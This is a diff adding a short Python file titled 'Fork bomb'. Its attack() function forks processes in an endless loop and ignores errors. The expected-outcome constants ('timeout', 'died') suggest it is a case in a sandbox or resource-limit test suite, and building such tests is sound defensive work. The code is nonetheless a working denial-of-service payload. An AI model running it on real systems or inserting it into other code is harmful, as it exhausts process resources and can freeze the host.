@@ -1,0 +1,14 @@
+"""Fork bomb"""
+
+import os
+
+ENDS = ("timeout", "died")
+FAST = True
+
+
+def attack():
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
